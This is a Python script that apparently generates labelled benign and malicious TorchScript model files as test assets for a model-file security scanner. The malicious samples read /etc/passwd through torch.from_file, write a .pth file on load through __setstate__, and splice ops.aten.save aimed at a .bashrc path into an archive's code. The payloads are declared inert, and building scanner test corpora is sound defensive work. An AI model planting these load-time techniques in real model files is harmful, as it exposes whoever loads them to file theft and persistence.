"""Generate the second labelled model corpus (formats the first one did not reach).

Run from the repository root:

    pip install torch==2.13.0 h5py numpy joblib lz4 backports.zstd tflite flatbuffers
    python tests/assets/models/formats2/generate.py [torchscript] [hdf5] [tflite] [compressed]

* TorchScript archives are written by ``torch.jit.save`` (torch 2.13.0 CPU).
  The ``edited_*`` samples are real archives whose ``code/`` text was edited
  afterwards, as an attacker would (torch.jit.load accepts them: checked here).
* HDF5 files are written by h5py; the dense-attribute ones get their root
  attributes into dense storage (fractal heap + v2 B-tree) the way Keras does
  for a big ``model_config``: an attribute over 64 KB, or many attributes
  with ``libver='latest'``.
* TFLite files are built with the ``flatbuffers`` builder and the generated
  schema classes of the ``tflite`` package (tensorflow/lite/schema/schema.fbs),
  which is what the TFLite converter writes; TensorFlow itself is too large to
  install here.
* Compressed wrappers: ``joblib.dump(..., compress="lz4")`` and ``"zstd"``
  (lz4 / backports.zstd), and ``torch.save`` output piped through the lz4 and
  zstd frame compressors.

Malicious files are INERT (``true``, paths under ``/tmp/chainward-inert``) and
reproduce published attacks; ``labels.json`` (keys relative to
tests/assets/models, like the first corpus) records the label, the verdict
chainward must give and the source imitated. Nothing here is loaded by tests.
"""

from __future__ import annotations

import json
import os
import sys
import warnings
import zipfile
from pathlib import Path

warnings.filterwarnings("ignore")
HERE = Path(__file__).resolve().parent
CORPUS = HERE.parent
LABELS_FILE = HERE / "labels.json"
LABELS: dict[str, dict[str, str]] = (
    json.loads(LABELS_FILE.read_text()) if LABELS_FILE.exists() else {}
)
INERT = "/tmp/chainward-inert"


def label(path: Path, kind: str, expect: str, source: str) -> None:
    LABELS[str(path.relative_to(CORPUS))] = {"label": kind, "expect": expect, "source": source}


def out_dir(kind: str, fmt: str) -> Path:
    folder = HERE / kind / fmt
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def edit_zip(src: Path, dst: Path, member_suffix: str, edits: list[tuple[bytes, bytes]]) -> None:
    """Rewrite one member's text in a zip archive (CRC recomputed), as an attacker would."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.endswith(member_suffix):
                for old, new in edits:
                    assert old in data, (old, info.filename)
                    data = data.replace(old, new)
            zout.writestr(info, data)


# ------------------------------------------------------------------ TorchScript


def torchscript() -> None:
    import torch
    from torch import Tensor

    torch.manual_seed(0)
    benign = out_dir("benign", "torchscript")
    malicious = out_dir("malicious", "torchscript")

    class Net(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.conv = torch.nn.Conv2d(1, 2, 3)
            self.fc = torch.nn.Linear(8, 2)
            self.norm = torch.nn.LayerNorm(2)

        def forward(self, x: Tensor) -> Tensor:
            y = torch.relu(self.conv(x)).flatten(1)[:, :8]
            out = [self.fc(y)]
            for i in range(2):
                out.append(out[-1] * float(i))
            return self.norm(torch.stack(out).mean(0))

    torch.jit.script(Net()).save(benign / "scripted.pt")
    label(benign / "scripted.pt", "benign", "safe", "torch.jit.script(...).save")
    traced = torch.jit.trace(Net().eval(), torch.randn(1, 1, 5, 5))
    traced.save(benign / "traced.pt")
    label(benign / "traced.pt", "benign", "safe", "torch.jit.trace(...).save")

    quantized = torch.ao.quantization.quantize_dynamic(
        torch.nn.Sequential(torch.nn.Linear(8, 4), torch.nn.LSTM(4, 4)),
        {torch.nn.Linear, torch.nn.LSTM},
        dtype=torch.qint8,
    )
    torch.jit.script(quantized).save(benign / "quantized_dynamic.pt")
    label(
        benign / "quantized_dynamic.pt",
        "benign",
        "safe",
        "torch.jit.script of a dynamically quantized Linear+LSTM (torch.classes.quantized/rnn)",
    )

    @torch.jit.script
    class Vocab:  # a scripted class with its own __getstate__/__setstate__
        def __init__(self, words: list[str]) -> None:
            self.words = words

        def __getstate__(self) -> list[str]:
            return self.words

        def __setstate__(self, state: list[str]) -> None:
            self.words = state

    class Tagger(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.vocab = Vocab(["a", "b"])
            self.emb = torch.nn.Embedding(2, 3)

        def forward(self, x: Tensor) -> Tensor:
            return self.emb(x) * float(len(self.vocab.words))

    torch.jit.script(Tagger()).save(benign / "scripted_class_setstate.pt")
    label(
        benign / "scripted_class_setstate.pt",
        "benign",
        "safe",
        "torch.jit.script module holding a scripted class with __setstate__",
    )

    class ReadFile(torch.nn.Module):
        def forward(self, x: Tensor) -> Tensor:
            # exfiltration: the file's bytes come back as the model's output
            leak = torch.from_file("/etc/passwd", shared=False, size=4096, dtype=torch.uint8)
            return torch.cat([x.flatten(), leak.float()])

    torch.jit.script(ReadFile()).save(malicious / "forward_from_file.pt")
    label(
        malicious / "forward_from_file.pt",
        "malicious",
        "unsafe",
        "TorchScript forward reads any file with torch.from_file (aten::from_file) and returns "
        "it as output",
    )

    @torch.jit.script
    class Dropper:
        def __init__(self, n: int) -> None:
            self.n = n

        def __getstate__(self) -> int:
            return self.n

        def __setstate__(self, state: int) -> None:
            self.n = state
            torch.save("import os; os.system('true')", "/tmp/chainward-inert/evil.pth")

    class Carrier(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.state = Dropper(1)
            self.fc = torch.nn.Linear(2, 2)

        def forward(self, x: Tensor) -> Tensor:
            return self.fc(x)

    torch.jit.script(Carrier()).save(malicious / "setstate_save.pt")
    label(
        malicious / "setstate_save.pt",
        "malicious",
        "unsafe",
        "TorchScript __setstate__ writes a file with torch.save (aten::save) while "
        "torch.jit.load runs (write primitive: .pth / start-up file persistence)",
    )

    # an attacker edits an ordinary archive's code: ops.aten.* spelling, in __setstate__
    edited = malicious / "edited_ops_aten_save.pt"
    edit_zip(
        benign / "scripted_class_setstate.pt",
        edited,
        "code/__torch__.py",
        [
            (
                b"    self.words = state\n",
                b"    self.words = state\n"
                b'    ops.aten.save(state, "/tmp/chainward-inert/.bashrc")\n',
            )
        ],
    )
    # the same edit with a harmless operator loads: torch accepts edited code/ text
    # (the malicious file itself is never loaded)
    probe = HERE / "_probe.pt"
    edit_zip(
        benign / "scripted_class_setstate.pt",
        probe,
        "code/__torch__.py",
        [(b"    self.words = state\n", b"    self.words = state\n    _n = ops.aten.len(state)\n")],
    )
    assert torch.jit.load(str(probe)).vocab.words == ["a", "b"]
    probe.unlink()
    label(
        edited,
        "malicious",
        "unsafe",
        "real torch.jit.save archive whose code/ text was edited to call ops.aten.save in "
        "__setstate__ (runs on torch.jit.load)",
    )


SECTIONS = {"torchscript": torchscript}


def main() -> None:
    chosen = sys.argv[1:] or list(SECTIONS)
    for name in chosen:
        SECTIONS[name]()
    LABELS_FILE.write_text(json.dumps(dict(sorted(LABELS.items())), indent=1) + "\n")


if __name__ == "__main__":
    os.chdir(CORPUS.parents[2])
    main()
